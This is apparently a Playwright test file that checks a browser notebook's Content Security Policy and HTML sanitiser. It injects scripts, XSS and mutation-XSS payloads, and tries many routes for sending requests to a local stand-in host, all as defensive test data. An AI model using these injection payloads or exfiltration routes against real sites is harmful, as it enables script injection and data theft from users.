"""The policy at work: the browser refuses what the build did not write, and every other host.

What is asked of another host is asked of a server that counts: whatever a script is told, the
server knows what has reached it.
"""

import http.server
import threading
from urllib.parse import quote

import pytest
from browser.conftest import check_faults, watched
from playwright.sync_api import expect

INJECT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.injected = true";
  document.body.append(script);
  const text = document.createElement("div");
  text.innerHTML = "<b onclick='window.injected = true'>b</b>";
  document.body.append(text);
  text.firstChild.click();
  return window.injected === true;
}"""
RUN = """async (code) => {
  window.python ??= window.bookCells.makePython({});
  const values = [];
  const onOutput = ({ bundle, text }) => values.push(bundle ?? text);
  return { ...(await window.python.run("cell 1", code, { limit: 600_000, onOutput })), values };
}"""
SHOW = """async (id) => {
  const place = document.body.appendChild(document.createElement("div"));
  await window.bookWidgets.show(id, place);
}"""
# every way out of a worker that JavaScript knows: those that raise, and those that fail later
FROM_PYTHON = """
import js
from pyodide.ffi import to_js
from pyodide.http import open_url

def blob(text):
    kind = js.Object.fromEntries(to_js([["type", "text/javascript"]]))
    return js.URL.createObjectURL(js.Blob.new(to_js([text]), kind))

def request():
    asked = js.XMLHttpRequest.new()
    asked.open("GET", "http://HOST/xhr", False)
    asked.send()

def module():
    js.Worker.new(blob("import 'http://HOST/module'; fetch('http://HOST/in-module')"))

ways = {
    "request": request,
    "open_url": lambda: open_url("http://HOST/open_url"),
    "importScripts": lambda: js.importScripts("http://HOST/scripts"),
    "worker": lambda: js.Worker.new("http://HOST/worker"),
    "worker of our own": lambda: js.Worker.new(js.location.origin + "/python-worker.js"),
    "module": module,
    "eval": lambda: js.eval("fetch('http://HOST/eval')"),
    "urllib": lambda: __import__("urllib.request").request.urlopen("http://HOST/urllib"),
}
silent = {
    "fetch": lambda: js.fetch("http://HOST/fetch"),
    "socket": lambda: js.WebSocket.new("ws://HOST/socket"),
    "events": lambda: js.EventSource.new("http://HOST/events"),
    "font": lambda: js.FontFace.new("f", "url(http://HOST/font)").load(),
}
allowed = []
for name, way in ways.items():
    try:
        way()
    except Exception:
        continue
    allowed.append(name)
for way in silent.values():
    way()
allowed
"""
WIDGET = '''
import anywidget
class Spy(anywidget.AnyWidget):
    _esm = """
const until = (target, good, bad) => new Promise((done, fail) => {
  target[good] = done;
  target[bad] = fail;
});
const element = (name, facts) =>
  document.body.appendChild(Object.assign(document.createElement(name), facts));
const link = (rel, href) => until(element("link", { rel, href }), "onload", "onerror");
const inside = async (frame) => {
  await until(frame, "onload", "onerror");
  await frame.contentWindow.fetch("http://HOST/frame");
};
const worker = (address) => until(new Worker(address), "onmessage", "onerror");
const fail = "() => setTimeout(() => { throw 1; })";
const blob = `fetch('http://HOST/worker').then(() => postMessage(1), ${fail})`;
const ways = {
  fetch: () => fetch("http://HOST/fetch"),
  image: () => until(element("img", { src: "http://HOST/image" }), "onload", "onerror"),
  module: () => import("http://HOST/module"),
  socket: () => until(new WebSocket("ws://HOST/socket"), "onopen", "onerror"),
  "worker of our own": () => worker("_static/book/python-worker.js"),
  "worker of a blob": () => worker(URL.createObjectURL(new Blob([blob]))),
  "shared worker": () => until(new SharedWorker("_static/book/editor.js"), "onconnect", "onerror"),
  "service worker": () => navigator.serviceWorker.register("_static/book/python-worker.js"),
  page: () => inside(element("iframe", { src: "index.html" })),
  text: () => inside(element("iframe", { src: "_static/book/LICENSES.txt" })),
  style: () => link("stylesheet", "http://HOST/style"),
  prefetch: () => link("prefetch", "http://HOST/fetched"),
  eval: async () => eval("1"),
};
export default { async render({ model, el }) {
  const allowed = [];
  navigator.sendBeacon("http://HOST/beacon");
  for (const [name, way] of Object.entries(ways)) {
    await way().then(() => allowed.push(name), () => {});
  }
  window.allowed = allowed;
  el.append("asked");
} };
"""
Spy()
'''
BUNDLE_IN_A_FRAME = """async () => {
  const state = JSON.stringify({ version_major: 2, version_minor: 0, state: {} });
  const frame = document.createElement("iframe");
  frame.srcdoc = `<script src="${document.querySelector("script[src*='book.js']").src}"></script>
    <script type="application/vnd.jupyter.widget-state+json">${state}</script>`;
  const loaded = new Promise((resolve) => (frame.onload = resolve));
  document.body.append(frame);
  await loaded;
  return typeof frame.contentWindow.bookWidgets;
}"""


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another host, which answers everyone and remembers what was asked."""

    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET  # noqa: N815  so they are called

    def log_message(self, *_):
        pass


@pytest.fixture
def elsewhere():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    server.asked = []
    server.address = f"127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def test_no_injected_script_or_frame_runs_and_none_leads_to_another_host(page, server):
    page.goto(f"{server}/search.html")
    check_an_injected_script_does_not_run(page)
    check_the_scripts_of_the_book_do_nothing_in_an_injected_frame(page)
    check_no_script_takes_the_reader_to_another_host_unasked(page, f"{server}/search.html")


def check_an_injected_script_does_not_run(page):
    page.evaluate("window.bookWidgets.ready")
    page.forgiven.append("Content Security Policy")
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        assert page.evaluate(INJECT) is False


def check_the_scripts_of_the_book_do_nothing_in_an_injected_frame(page):
    page.forgiven.append("run only in its own pages")
    assert page.evaluate(BUNDLE_IN_A_FRAME) == "undefined"


def test_what_code_shows_is_only_looked_at_and_no_code_reaches_another_host(
    window, server, elsewhere
):
    page = watched(window().new_page(), server)
    page.forgiven += ["Content Security Policy", elsewhere.address]  # it knows what has reached it
    page.goto(f"{server}/search.html")
    page.evaluate("window.stayed = true")
    html = HOSTILE_HTML.replace("HOST", elsewhere.address)
    check_html_of_a_widget_can_be_looked_at_and_no_more(page, html)
    check_html_among_outputs_can_be_looked_at_and_no_more(page, html)
    assert elsewhere.asked == []
    check_faults(page)
    check_no_code_of_the_readers_reaches_another_host(page, elsewhere)
    assert page.evaluate("[window.stayed, window.injected, typeof document.createElement]") == [
        *(True, None, "function")
    ]


def check_no_code_of_the_readers_reaches_another_host(page, elsewhere):
    asked = page.evaluate(RUN, FROM_PYTHON.replace("HOST", elsewhere.address))
    assert asked["error"] is None
    assert asked["values"][-1]["text/plain"] == "[]"
    made = page.evaluate(RUN, WIDGET.replace("HOST", elsewhere.address))
    shown = made["values"][-1]["application/vnd.jupyter.widget-view+json"]
    page.evaluate(SHOW, shown["model_id"])
    page.wait_for_function("() => window.allowed")
    assert page.evaluate("window.allowed") == []
    own = page.evaluate(RUN, "len(open_url(js.location.origin + '/').read()) > 0")
    assert own["values"][-1]["text/plain"] == "True"  # so what was refused was refused for its host
    assert elsewhere.asked == []


HOSTILE_HTML = (
    "<p>what follows belongs to the body</p>"
    "<meta http-equiv=refresh content='0;url=index.html'><base href='//192.0.2.1/'>"
    "<form action='index.html' target=_top><button>kept</button></form>"
    "<iframe srcdoc='x'></iframe><object data=x></object><embed src=x><link rel=x href=x>"
    "<a id=one href='javascript:1' target=_top>a</a><a id=two href='https://example.org/'>b</a>"
    "<img src='data:image/png,' onerror='window.injected = 1' name=createElement>"
    "<svg><a><set/></a></svg>"
    "<div popover style='background: url(http://HOST/style)' background='http://HOST/background'>"
    "<img srcset='http://HOST/srcset 2x' src='http://HOST/src'>"
    "<style>@import 'http://HOST/import'; .book-own p { background: url(http://HOST/url) }</style>"
    "<svg><use id=use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>"
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=data:, "
    "onerror=window.injected=1&gt;'></table></mtext></math>"
    "<svg></p><style><a title='</style><img src=data:, onerror=window.injected=1>'></svg>"
    "<noscript><p title='</noscript><img src=data:, onerror=window.injected=1>'></noscript>"
)
HARMFUL = (
    "script, meta, base, form, iframe, object, embed, link, set, noscript, [popover], [srcset]"
)
HARMFUL += ", [background], [onerror], [name], [target=_top], use[href], img[src^=http]"
OUTPUTS = """
import ipywidgets
kinds = ["text/html", "text/markdown", "image/svg+xml"]
shown = [{"output_type": "display_data", "data": {kind: HTML}} for kind in kinds]
ipywidgets.Output(outputs=shown)
"""
PARSED = """(frame) => {
  const { body } = new DOMParser().parseFromString(frame.srcdoc, "text/html");
  return body.querySelectorAll(HARMFUL).length;
}"""


def show(page, code):
    made = page.evaluate(RUN, code)
    view = made["values"][-1]["application/vnd.jupyter.widget-view+json"]
    page.evaluate(SHOW, view["model_id"])


def check_html_of_a_widget_can_be_looked_at_and_no_more(page, html):
    for kind in ("HTML", "HTMLMath"):
        show(page, f"import ipywidgets\nipywidgets.{kind}({html!r})")
        shown = page.locator(".widget-html-content, .widget-htmlmath-content").last
        expect(shown.locator("button")).to_have_text("kept")
        check_harmless(shown)
    options = f"description={html!r}, description_allow_html=True"
    show(page, f"import ipywidgets\nipywidgets.IntSlider({options})")
    check_harmless(page.locator(".widget-label").last)


def check_harmless(shown):
    assert shown.locator(HARMFUL).count() == 0
    assert shown.locator("a").first.get_attribute("href") is None
    link = shown.locator("a").nth(1).evaluate("({ href, target, rel }) => [href, target, rel]")
    assert link == ["https://example.org/", "_blank", "noopener noreferrer"]


def check_html_among_outputs_can_be_looked_at_and_no_more(page, html):
    show(page, OUTPUTS.replace("HTML", repr(html)))
    frame = page.locator("iframe.book-frame")
    assert frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    assert frame.evaluate(PARSED.replace("HARMFUL", repr(HARMFUL))) == 0
    text = page.locator(".book-text")
    expect(text.locator("button")).to_have_text("kept")
    check_harmless(text)
    assert text.locator("[id], [class], [style], style").count() == 0
    expect(page.locator("img.book-drawing")).to_have_count(1)


SCRIPTED = {
    "away": "window.location = 'http://192.0.2.1/away';",
    "beside": "if (window.open('http://192.0.2.1/beside')) window.opened = true;",
    "by a link": """{
      const facts = { href: 'http://192.0.2.1/by a link', target: '_blank' };
      document.body.appendChild(Object.assign(document.createElement('a'), facts)).click();
    }""",
}


def check_no_script_takes_the_reader_to_another_host_unasked(page, address):
    pages = len(page.context.pages)
    for name, script in SCRIPTED.items():
        page.evaluate(f"() => {{ {script} }}")
        said = f"wanted to open another page and was stopped: http://192.0.2.1/{quote(name)}"
        expect(page.locator(".book-notice").get_by_text(said, exact=False)).to_be_visible()
    assert page.url == address
    assert (len(page.context.pages), page.evaluate("window.opened")) == (pages, None)
